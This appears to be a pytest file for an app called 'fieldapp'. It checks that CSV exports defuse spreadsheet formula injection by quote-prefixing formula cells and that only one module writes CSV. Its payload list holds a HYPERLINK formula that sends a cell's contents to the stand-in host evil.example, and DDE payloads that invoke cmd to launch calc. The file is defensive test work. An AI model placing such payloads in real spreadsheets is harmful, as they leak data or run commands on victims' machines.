"""CSV formula injection: every text cell that a spreadsheet would evaluate is written as
text, numbers stay numbers, and no module but services/exports.py writes CSV."""
import csv
import io
import re
from pathlib import Path

import pytest

from fieldapp.domain.csv_cells import neutral_cell
from fieldapp.services.exports import csv_text

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
PAYLOADS = [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1", "\r=1+1", "=1+1"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_cell_is_prefixed_with_a_quote(payload):
    assert neutral_cell(payload) == "'" + payload


@pytest.mark.parametrize("value", ["走访脱贫户王某", "HH-0012", "a=b", " =1", "", "'=already"])
def test_other_text_is_left_alone(value):
    assert neutral_cell(value) == value


@pytest.mark.parametrize("value", [-12.5, -3, 0, 7, 1e-9, None, True])
def test_numbers_and_empties_pass_unchanged(value):
    assert neutral_cell(value) is value


def test_csv_text_has_a_bom_neutral_text_and_plain_numbers():
    rows = [{"summary": HYPERLINK, "household_ref": "+86", "distance_m": -41.5,
             "media_count": -1, "report_id": "@r"}, {"summary": "村两委会议, \"议题\""}]
    columns = ["summary", "household_ref", "distance_m", "media_count", "report_id"]
    text = csv_text(columns, rows)
    assert text.startswith("\ufeffsummary,")
    parsed = list(csv.reader(io.StringIO(text[1:])))
    assert parsed[1] == ["'" + HYPERLINK, "'+86", "-41.5", "-1", "'@r"]
    assert parsed[2] == ["村两委会议, \"议题\"", "", "", "", ""]


def test_no_module_but_exports_writes_csv():
    root = Path(__file__).resolve().parents[2] / "fieldapp"
    writers = re.compile(r"csv\.(writer|DictWriter)\b|\bDictWriter\(")
    offenders = [str(p.relative_to(root)) for p in root.rglob("*.py")
                 if p.name != "exports.py" and writers.search(p.read_text(encoding="utf-8"))]
    assert offenders == []
